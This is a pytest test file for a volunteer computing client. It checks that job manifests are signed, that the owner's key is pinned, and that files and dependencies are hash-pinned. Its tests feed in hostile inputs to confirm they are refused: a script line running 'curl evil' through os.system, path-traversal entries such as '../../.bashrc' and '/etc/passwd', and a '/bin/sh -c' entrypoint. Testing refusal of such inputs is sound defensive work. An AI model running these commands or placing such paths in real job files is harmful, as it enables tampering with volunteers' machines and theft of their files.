"""Manifest trust: signed by the job owner (Ed25519), key pinned at first join, every file
and dependency pinned by SHA-256; anything else is refused with a clear message."""

from __future__ import annotations

import base64
import json

import pytest

from volunteer_client.manifest import (
    Manifest,
    ManifestError,
    PinStore,
    build_manifest,
    generate_key,
    load_private_key,
    sign,
    verify_envelope,
    verify_files,
    verify_requirements,
)


@pytest.fixture
def job(tmp_path):
    folder = tmp_path / "job"
    folder.mkdir()
    (folder / "train.py").write_text("print('training')\n")
    (folder / "data.csv").write_text("1,2\n")
    key_path = tmp_path / "owner.key"
    generate_key(key_path)
    manifest = build_manifest(folder, "digits", "etcd://10.0.0.1:2379",
                              ["train.py", "--epochs", "2"], requirements=["psutil"])
    return folder, manifest, load_private_key(key_path)


def test_a_signed_manifest_verifies_and_pins(job, tmp_path):
    folder, manifest, key = job
    envelope = json.loads(json.dumps(sign(manifest, key)))  # as sent over HTTP
    got, public = verify_envelope(envelope, None)
    assert got == manifest and got.files["train.py"] and got.entrypoint[0] == "train.py"
    verify_files(got, folder)
    verify_requirements(got)
    pins = PinStore(tmp_path / "pins")
    pins.pin("https://c/digits", public)
    assert verify_envelope(envelope, pins.get("https://c/digits"))[0] == manifest


def test_key_file_is_private(tmp_path):
    generate_key(tmp_path / "k")
    assert (tmp_path / "k").stat().st_mode & 0o077 == 0
    with pytest.raises(FileExistsError):
        generate_key(tmp_path / "k")  # never overwrites an owner's key


def test_tampered_manifest_is_refused(job):
    _, manifest, key = job
    envelope = sign(manifest, key)
    body = json.loads(base64.b64decode(envelope["manifest"]))
    body["entrypoint"] = ["train.py", "--exfiltrate"]
    envelope["manifest"] = base64.b64encode(json.dumps(body).encode()).decode()
    with pytest.raises(ManifestError, match="signature is not valid.*altered"):
        verify_envelope(envelope, None)


def test_wrong_signature_is_refused(job):
    _, manifest, key = job
    envelope = sign(manifest, key)
    sig = bytearray(base64.b64decode(envelope["signature"]))
    sig[0] ^= 1
    envelope["signature"] = base64.b64encode(bytes(sig)).decode()
    with pytest.raises(ManifestError, match="signature is not valid"):
        verify_envelope(envelope, None)


def test_manifest_signed_by_another_key_is_refused_after_pinning(job, tmp_path):
    _, manifest, key = job
    first = sign(manifest, key)
    _, pinned = verify_envelope(first, None)
    generate_key(tmp_path / "mallory.key")
    forged = sign(manifest, load_private_key(tmp_path / "mallory.key"))
    verify_envelope(forged, None)  # valid on its own ...
    with pytest.raises(ManifestError, match="the job owner's key changed.*horde-volunteer forget"):
        verify_envelope(forged, pinned)  # ... but not the key pinned at first join


def test_changed_script_is_refused(job):
    folder, manifest, _ = job
    (folder / "train.py").write_text("import os; os.system('curl evil')\n")
    with pytest.raises(ManifestError, match="job file train.py differs from the signed manifest"):
        verify_files(manifest, folder)


def test_missing_and_unpinned_files_are_refused(job):
    folder, manifest, _ = job
    (folder / "helper.py").write_text("x = 1\n")
    with pytest.raises(ManifestError, match="helper.py .* is not in the signed manifest"):
        verify_files(manifest, folder)
    (folder / "helper.py").unlink()
    (folder / "data.csv").unlink()
    with pytest.raises(ManifestError, match="job file data.csv is missing"):
        verify_files(manifest, folder)


def test_changed_dependency_is_refused(job):
    _, manifest, _ = job
    pinned = dict(manifest.requirements)
    pinned["psutil"] = {"version": pinned["psutil"]["version"], "sha256": "0" * 64}
    changed = Manifest(**{**manifest.__dict__, "requirements": pinned})
    with pytest.raises(ManifestError, match="the installed psutil .* differs from the one"):
        verify_requirements(changed)


@pytest.mark.parametrize("change, message", [
    ({"files": {"../../.bashrc": "0" * 64, "train.py": "0" * 64}}, "leaves the job folder"),
    ({"files": {"/etc/passwd": "0" * 64}}, "leaves the job folder"),
    ({"files": {"train.py": "abc"}}, "is not a SHA-256"),
    ({"entrypoint": ["/bin/sh", "-c", "x"]}, "must be one of the job's pinned .py files"),
    ({"rendezvous": "etcd://x/../y"}, "is not etcd://HOST:PORT"),
    ({"format": 99}, "unknown manifest format"),
    ({"created": True}, "created must be a number"),
])
def test_hostile_manifest_fields_are_refused(job, change, message):
    _, manifest, key = job
    body = json.loads(manifest.to_bytes())
    body.update(change)
    with pytest.raises(ManifestError, match=message):
        Manifest.from_bytes(json.dumps(body).encode())


@pytest.mark.parametrize("envelope", [None, [], {}, {"manifest": "!!", "signature": "x",
                                                     "public_key": "y"}])
def test_malformed_envelopes_are_refused(envelope):
    with pytest.raises(ManifestError):
        verify_envelope(envelope, None)
